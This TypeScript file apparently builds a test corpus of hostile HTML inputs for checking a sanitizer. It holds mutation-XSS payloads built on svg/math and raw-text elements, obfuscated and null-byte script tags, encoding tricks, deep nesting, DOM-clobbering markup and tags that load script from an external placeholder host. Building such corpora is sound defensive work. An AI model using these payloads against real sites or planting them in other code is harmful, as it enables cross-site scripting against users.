import { ELSEWHERE, HARM, hostilePatterns, pairs } from './hostilePatterns.ts'
import { hostileTexts } from './hostileTexts.ts'

const RAW = [
  'script',
  'style',
  'iframe',
  'noscript',
  'noembed',
  'noframes',
  'template',
  'textarea',
  'title',
  'xmp',
]
const FOREIGN = [
  'svg',
  'math',
  'math><mtext',
  'math><annotation-xml encoding="text/html"',
  'svg><foreignObject',
]
const INNER = `<img src=x onerror=${HARM}>`
/** Elements whose content is read otherwise by some, so that it comes to life when it is read again. */
const mutations = [
  ...pairs(RAW, ['', ' '], (tag, blank) => `<${tag}${blank}>${INNER}</${tag}${blank}>`),
  ...RAW.map((tag) => `<${tag}><p title="</${tag}>${INNER}">`),
  ...RAW.map((tag) => `<p>a</p><${tag}>${INNER}`),
  ...RAW.map((tag) => `<${tag.toUpperCase()}><!--</${tag}>${INNER}-->`),
  ...pairs(FOREIGN, RAW, (foreign, raw) => `<${foreign}><${raw}><a id="</${raw}>${INNER}">`),
  ...FOREIGN.map((foreign) => `<${foreign}><![CDATA[><image xlink:href="]]>${INNER}">`),
  ...FOREIGN.map((foreign) => `<p><${foreign}></p><style><!--</style>${INNER}-->`),
]

const SCRIPT = `<script>${HARM}</script>`
/** What has no pattern: broken tags, comments, other encodings, depth. */
const oddities = [
  ...[
    SCRIPT,
    `<ScRiPt>${HARM}</sCrIpT>`,
    `<script src=${ELSEWHERE}/x.js></script>`,
    `<script\n>${HARM}</script\t>`,
  ],
  ...[
    `<script>${HARM}`,
    `<script>${HARM}</script`,
    `<scr<script>ipt>${HARM}</scr</script>ipt>`,
    `<<script>${HARM}//<</script>`,
  ],
  ...[
    `<script/x>${HARM}</script>`,
    `<script type=module>${HARM}</script>`,
    `</script>${SCRIPT}`,
    `"><script>${HARM}</script>`,
  ],
  ...[
    `<!--<img src="-->${INNER}">`,
    `<!-->${INNER}-->`,
    `<!--->${INNER}-->`,
    `<!-- --!>${INNER}-->`,
    `<!${INNER}>`,
  ],
  ...[
    `<?xml ${INNER}?>`,
    `<?php ${INNER} ?>`,
    `<![CDATA[${INNER}]]>`,
    `<!DOCTYPE x [<!ENTITY y "${INNER}">]>&y;`,
  ],
  ...[
    `<%${INNER}%>`,
    `<!--[if IE]>${SCRIPT}<![endif]-->`,
    `<p title='<!--' ${INNER}-->`,
    `<p title="a>b" ${INNER}`,
  ],
  ...[
    `<img src=x onerror=${HARM}`,
    `<img """>${SCRIPT}">`,
    `<img src='x' onerror='${HARM}`,
    `<p <img src=x onerror=${HARM}>x</p>`,
  ],
  ...[
    `<a href="x"onclick="${HARM}">x</a>`,
    `<a/href="x"/onclick="${HARM}">x</a>`,
    `<a\fhref=x\fonclick=${HARM}>x</a>`,
  ],
  ...[
    `<scr\0ipt>${HARM}</scr\0ipt>`,
    `<\0script>${HARM}</script>`,
    `<img\0 src=x onerror=${HARM}>`,
    `<img src=x\0onerror=${HARM}>`,
  ],
  ...[
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
    '\uff1cscript\uff1ealert(1)',
  ],
  ...[
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\x3cscript\\x3ealert(1)',
    '\\u003cscript\\u003ealert(1)',
    `\ufeff${SCRIPT}`,
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
    '<p>&amp;lt;script&amp;gt;</p>',
  ],
  ...[
    '<p>&#60;script&#62;alert(1)</p>',
    '<p>&#x3c;img src=x onerror=alert(1)&#x3e;</p>',
    '&ltscript&gtalert(1)',
  ],
  ...[`${'<p>'.repeat(500)}${INNER}`, `${'<svg>'.repeat(200)}${INNER}`, `${'<b><a>'.repeat(300)}${SCRIPT}`],
  ...[
    `${'<blockquote>'.repeat(600)}${INNER}${'</blockquote>'.repeat(600)}`,
    `${'<'.repeat(1000)}script>${HARM}`,
  ],
  ...[
    `<table><td>${INNER}<caption>${SCRIPT}</table>`,
    `<select><option>${INNER}</select>`,
    `<frameset onload=${HARM}>`,
  ],
  ...[
    `<form><math><mtext></form><form><mglyph><style></math>${INNER}`,
    `<svg></p><style><a id="</style>${INNER}">`,
  ],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HARM}&gt;">`],
  ...[`<svg><animate attributeName=href values=javascript:${HARM} /><a id=x><text>x</text></a></svg>`],
  ...[
    `<svg><set attributeName=onmouseover to=${HARM}>`,
    `<svg><script href="data:,${HARM}"/></svg>`,
    `<svg><desc>${INNER}`,
  ],
  ...[`<xml id=x><x xmlns:html="http://www.w3.org/1999/xhtml"><html:script>${HARM}</html:script></x></xml>`],
  ...[
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${HARM}</x:script>`,
    `<object><param name=movie value=${ELSEWHERE}>`,
  ],
  ...[
    `<video poster=${ELSEWHERE}/p><source src=${ELSEWHERE}/s onerror=${HARM}></video>`,
    `<input type=image src=${ELSEWHERE}/i>`,
  ],
  ...[
    `<a href="x" target="_self" rel="opener" ping="${ELSEWHERE}/ping" download>x</a>`,
    `<a href=x id=harmed name=body>x</a>`,
  ],
  ...[
    `<p id=config class=MuiDialog-root data-x=1 contenteditable is=x-y slot=z>x</p>`,
    `<x-harm></x-harm><dialog open>x</dialog>`,
  ],
  ...[
    `<img src=x:x onerror="window['al'+'ert'](harmed=1)">`,
    `<div><div>${INNER}</div></div>`,
    `<a><b></a>${INNER}</b>`,
  ],
]

/** Every text that somebody might send to do harm: those few that pages are shown with, and all ways that can be listed. */
export const hostileCorpus: readonly string[] = [
  ...new Set([...hostileTexts, ...hostilePatterns, ...mutations, ...oddities]),
]
